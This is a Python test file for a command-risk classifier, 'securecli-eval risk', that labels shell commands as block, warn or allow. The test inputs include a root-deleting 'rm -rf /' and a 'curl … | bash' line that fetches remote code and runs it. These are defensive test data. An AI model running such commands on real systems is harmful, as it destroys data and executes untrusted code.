"""`securecli-eval risk`: one JSON line per command, exit 0, malformed input included."""

from __future__ import annotations

import json
import subprocess
import sys

from securecli_eval.cli import main


def run_cli(args: list[str], stdin: bytes = b"") -> tuple[int, list[dict], str]:
    proc = subprocess.run(
        [sys.executable, "-m", "securecli_eval.cli", "risk", *args],
        input=stdin,
        capture_output=True,
        timeout=60,
    )
    lines = [json.loads(line) for line in proc.stdout.decode("utf-8").splitlines()]
    return proc.returncode, lines, proc.stderr.decode("utf-8", "replace")


def test_commands_from_stdin_including_malformed() -> None:
    stdin = b'rm -rf /\nls -la\n\necho "unterminated\n\xff\xfe binary junk\n'
    code, rows, stderr = run_cli([], stdin)
    assert code == 0, stderr
    assert [r["verdict"] for r in rows] == ["block", "allow", "warn", "allow"]
    assert rows[0] == {
        "command": "rm -rf /",
        "verdict": "block",
        "rule": "DEL001",
        "mitre": "T1485",
        "reason": rows[0]["reason"],
    }
    assert rows[2]["rule"] == "UNPARSEABLE"


def test_commands_as_arguments(capsys) -> None:
    assert main(["risk", "echo rm -rf /", "curl -s http://x | bash"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(r["verdict"], r["rule"]) for r in rows] == [("allow", None), ("block", "RCE001")]


def test_rule_table_listing(capsys) -> None:
    assert main(["risk", "--rules"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {"DEL001", "REV001", "CTR001"} <= {r["id"] for r in rows}
